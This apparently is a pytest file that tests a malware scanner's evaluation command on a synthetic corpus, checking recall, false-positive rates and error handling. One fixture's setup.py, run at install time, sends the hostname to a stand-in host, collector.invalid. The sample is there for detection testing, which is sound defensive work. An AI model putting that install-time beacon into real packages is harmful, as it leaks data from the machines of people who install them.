"""`warden checks evaluate` on a small corpus made here: synthetic, inert archives, never the
real samples."""

import hashlib
import io
import itertools
import json
import zipfile

import pytest

from warden.checks import evaluate

from .helpers import sdist, wheel

COLUMNS = ["zip_name", "package", "version", "sha256", "family_id", "weak_label"]


def family(held: bool) -> str:
    """A family id that the split puts in the held-back part (or not)."""
    for number in itertools.count():
        candidate = f"F{number:010x}"
        if evaluate.is_held(candidate) is held:
            return candidate
    raise AssertionError


@pytest.fixture
def corpus(tmp_path):
    beacon = sdist({"setup.py": """
import socket, urllib.request
from setuptools import setup
urllib.request.urlopen("https://collector.invalid/?h=" + socket.gethostname())
setup(name="beacon")
"""}, name="beacon")
    placeholder = wheel({}, name="placeholder-pkg")
    rows = [("001-" + beacon.filename, beacon, family(held=True), "0"),
            ("002-" + placeholder.filename, placeholder, family(held=False), "1")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, dist, _, _ in rows:
            archive.writestr(name, dist.data)
    (tmp_path / "malicious.zip").write_bytes(buffer.getvalue())
    manifest = ["\t".join(COLUMNS)] + ["\t".join([
        name, "p", "1.0", hashlib.sha256(dist.data).hexdigest(), fam, weak])
        for name, dist, fam, weak in rows]
    (tmp_path / "malicious.tsv").write_text("\n".join(manifest) + "\n")
    benign_dir = tmp_path / "benign"
    lines = ["# name==version, kind, sha256, file, group"]
    for dist, group in ((wheel({"tidy/__init__.py": "def add(a, b):\n    return a + b\n"},
                               name="tidy"), "general"),
                        (wheel({"runner/__init__.py": "import subprocess\n\ndef run(c):\n"
                                "    return subprocess.run(c)\n"}, name="runner"),
                         "dual-use")):
        dist.write_to(benign_dir)
        lines.append("\t".join(["x==1", "wheel", hashlib.sha256(dist.data).hexdigest(),
                                dist.filename, group]))
    (tmp_path / "benign.txt").write_text("\n".join(lines) + "\n")
    return tmp_path


def options(corpus, **more):
    return {"malicious_zip": corpus / "malicious.zip", "manifest": corpus / "malicious.tsv",
            "benign_dir": corpus / "benign", "benign_list": corpus / "benign.txt",
            "part": "all", "check": [], "jobs": 1, "json": corpus / "out.json", **more}


def test_evaluation_reports_recall_with_and_without_weak_labels_and_false_positives(corpus):
    out = io.StringIO()
    assert evaluate.handle(options(corpus), out) == 0
    result = json.loads((corpus / "out.json").read_text())
    combined = result["checks"]["combined"]
    assert combined["recall"] == 0.5              # the placeholder has nothing to find
    assert combined["recall_without_weak"] == 1.0
    assert combined["fpr"] == 0.0 and combined["fpr_dual_use"] == 0.0
    assert combined["quarantine_malicious"] == 0.5
    assert result["checks"]["install-time-code"]["recall"] == 0.5
    assert combined["seconds_per_mb"] > 0
    assert {f["file"] for f in result["files"]} >= {"001-beacon-1.0.tar.gz"}
    assert "combined" in out.getvalue()


def test_held_back_part_holds_only_the_held_families(corpus):
    assert evaluate.handle(options(corpus, part="held"), io.StringIO()) == 0
    result = json.loads((corpus / "out.json").read_text())
    malicious = [f["file"] for f in result["files"] if f["label"] == "malicious"]
    assert malicious == ["001-beacon-1.0.tar.gz"]


def test_missing_corpus_files_are_an_error_not_an_empty_report(corpus):
    out = io.StringIO()
    status = evaluate.handle(options(corpus, manifest=corpus / "nowhere.tsv"), out)
    assert status == 2
    assert "--manifest" in out.getvalue()


def test_unknown_check_name_is_an_error(corpus):
    out = io.StringIO()
    assert evaluate.handle(options(corpus, check=["no-such-check"]), out) == 2
